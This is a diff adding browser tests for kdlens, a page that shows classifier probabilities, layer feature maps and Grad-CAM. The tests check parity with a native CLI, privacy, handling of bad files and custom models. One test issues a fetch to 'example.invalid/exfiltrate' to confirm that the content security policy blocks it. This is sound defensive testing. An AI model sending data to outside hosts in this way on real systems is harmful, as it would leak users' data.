@@ -1,0 +1,201 @@
+// The kdlens page in real headless Chromium: WebGPU (SwiftShader) and CPU fallback, parity with
+// the native CLI, privacy, bad input, custom models and serving from a sub-path.
+import { test, before, after, describe } from 'node:test';
+import assert from 'node:assert/strict';
+import { writeFile, readFile, mkdtemp } from 'node:fs/promises';
+import { join } from 'node:path';
+import { tmpdir } from 'node:os';
+import {
+  serve, launch, openPage, dropFile, explainDropped, testImage, png, rewriteBundle, nativeExplain,
+  artifactsDir, WWW,
+} from './helpers.js';
+
+const MODEL = join(WWW, 'model', 'model.kdlens');
+const timings = {};
+
+function checkResult(result, classes) {
+  assert.equal(result.probabilities.length, classes);
+  const sum = result.probabilities.reduce((a, b) => a + b, 0);
+  assert.ok(Math.abs(sum - 1) < 1e-4, `probabilities sum to ${sum}`);
+  assert.ok(result.featureMaps.length >= 5, 'one map per layer');
+  for (const map of result.featureMaps) {
+    assert.equal(map.raw.length, map.size[0] * map.size[1]);
+    assert.ok(map.raw.every(Number.isFinite));
+  }
+  assert.equal(result.gradCam.map.length, result.gradCam.size[0] * result.gradCam.size[1]);
+}
+
+/** Whether a canvas holds anything but transparent or one flat colour. */
+async function canvasIsDrawn(page, selector) {
+  return page.evaluate((sel) => {
+    const canvases = [...document.querySelectorAll(sel)];
+    return canvases.length > 0 && canvases.every((c) => {
+      const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
+      const seen = new Set();
+      for (let i = 0; i < d.length; i += 4 * 7) { if (d[i + 3] > 0) seen.add(`${d[i]},${d[i + 1]},${d[i + 2]}`); }
+      return seen.size > 3;
+    });
+  }, selector);
+}
+
+function maxDiff(a, b) {
+  assert.equal(a.length, b.length);
+  return a.reduce((m, v, i) => Math.max(m, Math.abs(v - b[i])), 0);
+}
+
+for (const backend of ['webgpu', 'cpu']) {
+  describe(`page on ${backend}`, () => {
+    let server, context, page, logs, classes;
+    before(async () => {
+      server = await serve('/');
+      context = await launch({ webgpu: backend === 'webgpu' });
+      ({ page, logs } = await openPage(context, server.url));
+      classes = await page.evaluate(() => document.querySelectorAll('#target option').length - 1);
+    });
+    after(async () => {
+      if (process.env.KDLENS_TEST_LOGS) console.log(logs.join('\n'));
+      await context?.close();
+      await server?.close();
+    });
+
+    test(`${backend}: dropping an image shows probabilities, every layer map and the Grad-CAM`, async () => {
+      const badge = await page.textContent('#backend-badge');
+      assert.match(badge, backend === 'webgpu' ? /WebGPU/ : /CPU/, `badge says ${badge}`);
+      const { result, ms } = await explainDropped(page, testImage(96, 1), 'blob.png');
+      timings[backend] = { firstDropMs: ms, ...result.timings };
+      checkResult(result, classes);
+      assert.equal(result.backend.name, backend);
+      assert.equal(await page.locator('#probabilities li').count(), classes);
+      assert.equal(await page.locator('#layer-strip canvas').count(), result.featureMaps.length);
+      assert.ok(await canvasIsDrawn(page, '#layer-strip canvas'), 'layer thumbnails drawn');
+      assert.ok(await canvasIsDrawn(page, '#cam-canvas'), 'Grad-CAM overlay drawn');
+      const second = await explainDropped(page, testImage(80, 3), 'blob2.png');
+      timings[backend].secondDropMs = second.ms;
+      await page.screenshot({ path: join(await artifactsDir(), `results-${backend}.png`), fullPage: true });
+    });
+
+    test(`${backend}: probabilities and Grad-CAM match the native CLI on the same PNG`, async () => {
+      const dir = await mkdtemp(join(tmpdir(), 'kdlens-parity-'));
+      for (const [i, bytes] of [testImage(64, 2), testImage(120, 4)].entries()) {
+        const path = join(dir, `parity${i}.png`);
+        await writeFile(path, bytes);
+        const native = await nativeExplain(path, MODEL);
+        const { result } = await explainDropped(page, bytes, `parity${i}.png`);
+        const dp = maxDiff(result.probabilities, native.probabilities);
+        assert.ok(dp <= 1e-4, `probabilities differ by ${dp}`);
+        assert.equal(result.gradCam.layer, native.grad_cam.layer);
+        assert.equal(result.gradCam.class, native.grad_cam.class);
+        const dc = maxDiff(result.gradCam.map, native.grad_cam.map);
+        assert.ok(dc <= 1e-3, `Grad-CAM maps differ by ${dc}`);
+        for (const [k, map] of result.featureMaps.entries()) {
+          const d = maxDiff(map.raw, native.feature_maps[k].values);
+          assert.ok(d <= 1e-3, `feature map ${map.layer} differs by ${d}`);
+        }
+      }
+    });
+  });
+}
+
+describe('privacy, robustness and models (CPU)', () => {
+  let server, context, page, requests, logs;
+  before(async () => {
+    server = await serve('/');
+    context = await launch({ webgpu: false });
+    ({ page, requests, logs } = await openPage(context, server.url));
+  });
+  after(async () => {
+    if (process.env.KDLENS_TEST_LOGS) console.log(logs.join('\n'));
+    await context?.close();
+    await server?.close();
+  });
+
+  test('after load, 20 explanations make zero network requests', async () => {
+    const loaded = requests.length;
+    for (let i = 0; i < 20; i++) {
+      await explainDropped(page, testImage(48 + i, i), `private${i}.png`);
+    }
+    assert.deepEqual(requests.slice(loaded), [], 'requests after load');
+    const stored = await page.evaluate(async () => ({
+      local: localStorage.length,
+      session: sessionStorage.length,
+      caches: (await caches.keys()).length,
+      databases: (await indexedDB.databases()).length,
+    }));
+    assert.deepEqual(stored, { local: 0, session: 0, caches: 0, databases: 0 });
+  });
+
+  test('bad files get a readable message and the page keeps working', async () => {
+    const good = testImage(64, 5);
+    const cases = [
+      ['truncated.png', good.subarray(0, 60), /corrupt|truncated|could not be decoded/i],
+      ['empty.png', Buffer.alloc(0), /empty/i],
+      ['notes.png', Buffer.from('this is a text file, not a picture\n'), /not an image/i],
+      ['huge.png', png(12000, 12000, () => [0, 0, 0]), /12000×12000/],
+    ];
+    for (const [name, bytes, message] of cases) {
+      const before = await page.evaluate(() => window.kdlens.lastResult && window.kdlens.lastResult.probabilities);
+      await dropFile(page, '#drop-zone', bytes, name, 'image/png');
+      await page.waitForFunction(() => document.querySelector('#status').classList.contains('error'), null, { timeout: 60_000 });
+      const status = await page.textContent('#status');
+      assert.match(status, message, `${name}: ${status}`);
+      assert.ok(status.includes(name), `the message names the file: ${status}`);
+      const after = await page.evaluate(() => window.kdlens.lastResult && window.kdlens.lastResult.probabilities);
+      assert.deepEqual(after, before, 'the previous result stays');
+    }
+    const { result } = await explainDropped(page, good, 'after-errors.png');
+    assert.ok(result.probabilities.length > 0, 'still explains after bad input');
+  });
+
+  test('a dropped custom bundle changes the classes; a broken one is refused and the old model stays', async () => {
+    const original = await readFile(MODEL);
+    const custom = rewriteBundle(original, (m) => {
+      m.name = 'custom test model';
+      m.classes = m.classes.map((_, i) => `custom-${i}`);
+    });
+    await dropFile(page, '#model-drop', custom, 'custom.kdlens', 'application/octet-stream');
+    await page.waitForFunction(() => document.querySelector('#model-badge').textContent.includes('custom test model'), null, { timeout: 60_000 });
+    const { result } = await explainDropped(page, testImage(64, 6), 'custom.png');
+    const labels = await page.locator('#probabilities li > span:first-child').allTextContents();
+    assert.ok(labels.every((l) => l.startsWith('custom-')), labels.join(','));
+    assert.equal(result.probabilities.length, labels.length);
+
+    await dropFile(page, '#model-drop', original.subarray(0, original.length - 100), 'broken.kdlens', 'application/octet-stream');
+    await page.waitForFunction(() => document.querySelector('#status').classList.contains('error'), null, { timeout: 60_000 });
+    const status = await page.textContent('#status');
+    assert.match(status, /broken\.kdlens was not loaded/);
+    assert.match(status, /truncated|checksum/i);
+    assert.match(await page.textContent('#model-badge'), /custom test model/, 'previous model still in use');
+    await explainDropped(page, testImage(64, 7), 'still-works.png');
+  });
+
+  test('the content security policy blocks a fetch to another origin', async () => {
+    const outcome = await page.evaluate(async () => {
+      try {
+        await fetch('http://example.invalid/exfiltrate');
+        return 'allowed';
+      } catch (e) {
+        return `blocked: ${e.message}`;
+      }
+    });
+    assert.match(outcome, /blocked/);
+    assert.ok(logs.some((l) => /Content Security Policy/i.test(l)), 'Chromium reports the CSP violation');
+  });
+});
+
+test('served from a sub-path (/kdlens/), everything loads and works', async () => {
+  const server = await serve('/kdlens/');
+  const context = await launch({ webgpu: false });
+  try {
+    const { page, requests } = await openPage(context, server.url);
+    assert.ok(requests.every((u) => u.startsWith(server.url)), `all requests under the sub-path: ${requests.filter((u) => !u.startsWith(server.url))}`);
+    const { result } = await explainDropped(page, testImage(64, 8), 'subpath.png');
+    assert.ok(result.probabilities.length > 0);
+  } finally {
+    await context.close();
+    await server.close();
+  }
+});
+
+after(async () => {
+  await writeFile(join(await artifactsDir(), 'timings.json'), JSON.stringify(timings, null, 2));
+});
